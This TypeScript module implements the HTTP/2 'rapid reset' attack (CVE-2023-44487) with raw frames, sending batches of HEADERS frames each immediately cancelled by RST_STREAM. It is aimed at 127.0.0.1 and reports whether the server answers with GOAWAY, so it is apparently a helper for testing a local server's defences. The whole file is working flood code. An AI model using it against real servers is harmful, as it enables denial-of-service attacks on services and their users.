import tls from 'node:tls';

/**
 * The "rapid reset" attack (CVE-2023-44487) as raw HTTP/2 frames (RFC 9113 section 4.1): each request is a
 * HEADERS frame (END_STREAM | END_HEADERS) immediately followed, in the same write, by RST_STREAM(CANCEL)
 * for the same stream, so the server learns of the reset together with the request. (node:http2's client
 * sends a stream's RST_STREAM in a later write than its HEADERS, and a server that answers fast enough
 * then finishes the stream before it sees the reset: that is no rapid reset.)
 *
 * Sends up to `streams` pairs, `perWrite` at a time with a turn of the event loop between writes, and stops
 * when the server sends GOAWAY or closes. Resolves with the GOAWAY error code (RFC 9113 section 7), -1 if
 * the connection closed without one, or -2 after `timeoutMs`.
 */
export function rapidReset(port: number, { streams = 2000, perWrite = 100, path = '/about.html', authority = 'localhost', timeoutMs = 10_000 } = {}): Promise<number> {
  return new Promise((resolve) => {
    const socket = tls.connect({ port, host: '127.0.0.1', servername: 'localhost', ALPNProtocols: ['h2'], rejectUnauthorized: false });
    let done = false;
    const finish = (code: number) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve(code);
    };
    const timer = setTimeout(() => finish(-2), timeoutMs);
    socket.on('error', () => finish(-1));
    socket.on('close', () => finish(-1));
    let inbox = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      inbox = Buffer.concat([inbox, chunk]);
      // Frames: 9-byte header (length 24 bits, type, flags, stream id), then the payload.
      while (inbox.length >= 9) {
        const length = inbox.readUIntBE(0, 3);
        if (inbox.length < 9 + length) break;
        const type = inbox[3];
        if (type === 0x7 && length >= 8) return finish(inbox.readUInt32BE(9 + 4));
        inbox = inbox.subarray(9 + length);
      }
    });
    socket.once('secureConnect', async () => {
      // The client connection preface (section 3.4): the magic, then an empty SETTINGS frame.
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(0x4, 0, 0, Buffer.alloc(0))]));
      const block = headerBlock(path, authority);
      let id = 1;
      for (let sent = 0; sent < streams && !done; sent += perWrite) {
        const frames: Buffer[] = [];
        for (let i = 0; i < perWrite && sent + i < streams; i++, id += 2) {
          frames.push(frame(0x1, 0x5, id, block));
          const cancel = Buffer.alloc(4);
          cancel.writeUInt32BE(0x8); // CANCEL
          frames.push(frame(0x3, 0, id, cancel));
        }
        socket.write(Buffer.concat(frames));
        await new Promise((r) => setImmediate(r));
      }
    });
  });
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** A GET's header block in HPACK (RFC 7541): indexed :method GET and :scheme https, literal :path and :authority without indexing. */
function headerBlock(path: string, authority: string): Buffer {
  const literal = (index: number, value: string) => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, authority)]);
}
